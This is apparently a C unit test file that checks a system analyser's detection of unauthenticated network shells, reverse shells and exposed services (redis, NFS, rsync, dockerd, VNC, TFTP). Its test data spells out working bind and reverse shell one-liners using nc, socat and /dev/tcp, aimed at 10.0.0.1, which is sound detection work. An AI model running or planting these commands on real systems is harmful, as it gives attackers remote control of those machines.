/* Shells and files that a service hands to whoever connects, by its words and
 * its settings. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "services.h"

struct line {
    const char *command, *name, *state, *authentication, *listens;
};

static void base(const char *command)
{
    static char rcs[300];
    static const char *const programs[] = {
        "usr/bin/nc",        "usr/bin/socat",        "usr/bin/tcpsvd",
        "usr/bin/udpsvd",    "usr/sbin/ftpd",        "usr/sbin/tftpd",
        "usr/bin/ttyd",      "usr/bin/shellinaboxd", "bin/bash",
        "usr/sbin/rpc.nfsd", "usr/bin/redis-server", "usr/bin/rsync",
        "usr/bin/dockerd",   "usr/bin/x11vnc",       "usr/sbin/dnsmasq",
        "usr/sbin/inetd"};
    snprintf(rcs, sizeof rcs, "#!/bin/sh\n%s\n", command);
    busybox_rcs(rcs);
    for (size_t i = 0; i < sizeof programs / sizeof *programs; i++)
        program(programs[i]);
}

static void check(const struct line *l)
{
    bool good =
        strcmp(state_of(l->name), l->state) == 0 &&
        strcmp(get(l->name, "authentication"), l->authentication) == 0 &&
        strcmp(listens(l->name), l->listens) == 0;
    if (!good)
        print_message("# %s: %s, %s, %s\n", l->command, state_of(l->name),
                      get(l->name, "authentication"), listens(l->name));
    assert_true(good);
}

static void words_that_hand_out_a_shell_are_known(void **state)
{
    (void)state;
    static const struct line lines[] = {
        {"nc -l -p 4444 -e /bin/sh &",                        "network-shell", "on",          "none",
         "tcp/4444"                                                                                                           },
        {"busybox nc -ll -p 4444 -e /bin/sh",                 "network-shell", "on",          "none",
         "tcp/4444"                                                                                                           },
        {"nc -lvnp 4444 -e /bin/bash -i",                     "network-shell", "on",          "none",
         "tcp/4444"                                                                                                           },
        {"nc -l -s 127.0.0.1 -p 1 -e sh",                     "network-shell", "on",          "none",
         "tcp/1@127.0.0.1"                                                                                                    },
        {"nc -lu 53 -e sh",                                   "network-shell", "on",          "none",     "udp/53"            },
        {"[ -f /tmp/x ] && nc -l -p 4444 -e sh",              "network-shell", "conditional",
         "none",                                                                                          "tcp/4444"          },
        {"nc -l -p 4444 -e /bin/cat",                         "network-shell", "",            "",         ""                  },
        {"nc -l -p 4444 > /tmp/x",                            "network-shell", "",            "",         ""                  },
        {"echo nc -l -p 4444 -e /bin/sh",                     "network-shell", "",            "",         ""                  },
        {"nc 10.0.0.1 4444 -e /bin/sh",                       "reverse-shell", "on",          "none",     ""                  },
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &",          "reverse-shell", "on",
         "none",                                                                                          ""                  },
        {"bash -i > /dev/null",                               "reverse-shell", "",            "",         ""                  },
        {"socat TCP-LISTEN:9999,fork,reuseaddr EXEC:/bin/sh", "network-shell",
         "on",                                                                                "none",     "tcp/9999"          },
        {"socat tcp-l:9999,bind=127.0.0.1 exec:'sh -i',pty",  "network-shell",
         "on",                                                                                "none",     "tcp/9999@127.0.0.1"},
        {"socat TCP-LISTEN:9999,range=10.0.0.0/8 EXEC:sh",    "network-shell",
         "on",                                                                                "unknown",  "tcp/9999"          },
        {"socat OPENSSL-LISTEN:9999,cert=x SYSTEM:sh",        "network-shell", "on",
         "unknown",                                                                                       "tcp/9999"          },
        {"socat TCP:10.0.0.1:9999 EXEC:sh",                   "reverse-shell", "on",          "none",     ""                  },
        {"socat TCP-LISTEN:9999 TCP:10.0.0.1:80",             "network-shell", "",            "",         ""                  },
        {"socat TCP-LISTEN:9999 EXEC:/usr/bin/app",           "network-shell", "",            "",
         ""                                                                                                                   },
        {"tcpsvd 0 4444 /bin/sh -i",                          "network-shell", "on",          "none",     "tcp/4444"          },
        {"tcpsvd 0 4444 sh -c date",                          "network-shell", "",            "",         ""                  },
        {"tcpsvd -vE 0.0.0.0 21 ftpd -w /",                   "ftpd",          "on",          "password", "tcp/21"            },
        {"udpsvd -E 0 69 tftpd -c /tmp",                      "tftpd",         "on",          "unknown",  "udp/69"            },
        {"ttyd -W -p 81 sh",                                  "ttyd",          "on",          "none",     "tcp/81"            },
        {"ttyd -p 81 sh",                                     "ttyd",          "conditional", "none",     "tcp/81"            },
        {"ttyd -c a:b -W sh",                                 "ttyd",          "on",          "password", "tcp/7681"          },
        {"ttyd -W login",                                     "ttyd",          "on",          "password", "tcp/7681"          },
        {"shellinaboxd -t -s /:root:root:/:/bin/sh",          "shellinaboxd",  "on",
         "none",                                                                                          "tcp/4200"          },
        {"shellinaboxd -t -s /:AUTH:/:/bin/sh",               "shellinaboxd",  "on",
         "password",                                                                                      "tcp/4200"          },
        {"shellinaboxd -t",                                   "shellinaboxd",  "on",          "password", "tcp/4200"          },
    };
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        base(lines[i].command);
        ptree_run(&t);
        check(&lines[i]);
        ptree_done(&t);
    }
}

static void a_shell_that_is_not_there_is_told_as_unknown(void **state)
{
    (void)state;
    busybox_rcs("#!/bin/sh\nncat -l 4444 -e /bin/sh\n");
    ptree_run(&t);
    assert_string_equal(get("network-shell", "authentication"), "none");
    ptree_done(&t);
}

static void inetd_hands_out_shells(void **state)
{
    (void)state;
    static const struct line lines[] = {
        {"4444 stream tcp nowait root /bin/sh sh -i\n",      "network-shell", "on",
         "none",                                                                        "tcp/4444"},
        {"4444 stream tcp nowait root /bin/sh sh -c date\n", "network-shell",
         "",                                                                        "", ""        },
    };
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        base("inetd");
        file("etc/inetd.conf", lines[i].command);
        ptree_run(&t);
        check(&lines[i]);
        ptree_done(&t);
    }
}

static void settings_open_servers_to_all(void **state)
{
    (void)state;

    static const struct {
        const char *path, *text;
        struct line line;
    } cases[] = {
        {"etc/redis.conf",
         "bind 0.0.0.0\nprotected-mode no\nport 6380\n",     {"redis-server /etc/redis.conf", "redis", "on", "none", "tcp/6380"}},
        {"etc/redis.conf",
         "bind 127.0.0.1\nprotected-mode no\n",              {"redis-server /etc/redis.conf", "redis", "on", "none",
          "tcp/6379@127.0.0.1"}                                                  },
        {"etc/redis.conf",
         "protected-mode no\nrequirepass x\n",               {"redis-server /etc/redis.conf", "redis", "on", "password",
          "tcp/6379"}                                                             },
        {"etc/redis.conf",
         "port 6379\n",                                      {"redis-server /etc/redis.conf", "redis", "on", "unknown",
          "tcp/6379"}                                                                                    },
        {"etc/exports",
         "/ *(rw,no_root_squash)\n",                         {"rpc.nfsd 8", "nfsd", "on", "none", "tcp/2049"}                   },
        {"etc/exports",
         "# / *(rw)\n/srv *(ro) 10.0.0.1(rw)\n",             {"rpc.nfsd 8", "nfsd", "on", "unknown", "tcp/2049"}                },
        {"etc/exports",
         "/ *(rw,sec=krb5p)\n",                              {"rpc.nfsd 8", "nfsd", "on", "unknown", "tcp/2049"}                },
        {"etc/rsyncd.conf",
         "[a]\npath=/\nread only = no\n",                    {"rsync --daemon", "rsync", "on", "none", "tcp/873"}               },
        {"etc/rsyncd.conf",
         "[a]\npath=/\n[b]\nread only=no\nauth users = x\n", {"rsync --daemon", "rsync", "on", "password", "tcp/873"}           },
        {"etc/rsyncd.conf",
         "[a]\nread only=no\n",                              {"rsync a b", "rsync", "", "", ""}                                 },
        {"etc/x",
         "",                                                 {"x11vnc -forever -nopw", "x11vnc", "on", "none", "tcp/5900"}      },
        {"etc/x",
         "",                                                 {"x11vnc -rfbauth /p", "x11vnc", "on", "password", "tcp/5900"}     },
        {"etc/x",
         "",                                                 {"dockerd -H tcp://0.0.0.0:2375", "dockerd", "on", "none",
          "tcp/2375@0.0.0.0"}                                                                                       },
        {"etc/x",
         "",                                                 {"dockerd --tlsverify -H tcp://0.0.0.0:2376", "dockerd", "on",
          "certificate", "tcp/2376@0.0.0.0"}                                                                        },
        {"etc/x",            "",                             {"dockerd", "dockerd", "on", "unknown", ""}                        },
        {"etc/dnsmasq.conf",
         "enable-tftp\n",                                    {"dnsmasq", "dnsmasq-tftpd", "on", "none", "udp/69"}               },
        {"etc/dnsmasq.conf",
         "#enable-tftp\n",                                   {"dnsmasq", "dnsmasq-tftpd", "", "", ""}                           },
        {"etc/x",
         "",                                                 {"dnsmasq --enable-tftp", "dnsmasq-tftpd", "on", "none", "udp/69"} },
    };

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        base(cases[i].line.command);
        file(cases[i].path, cases[i].text);
        ptree_run(&t);
        check(&cases[i].line);
        ptree_done(&t);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(words_that_hand_out_a_shell_are_known),
        cmocka_unit_test(a_shell_that_is_not_there_is_told_as_unknown),
        cmocka_unit_test(inetd_hands_out_shells),
        cmocka_unit_test(settings_open_servers_to_all),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
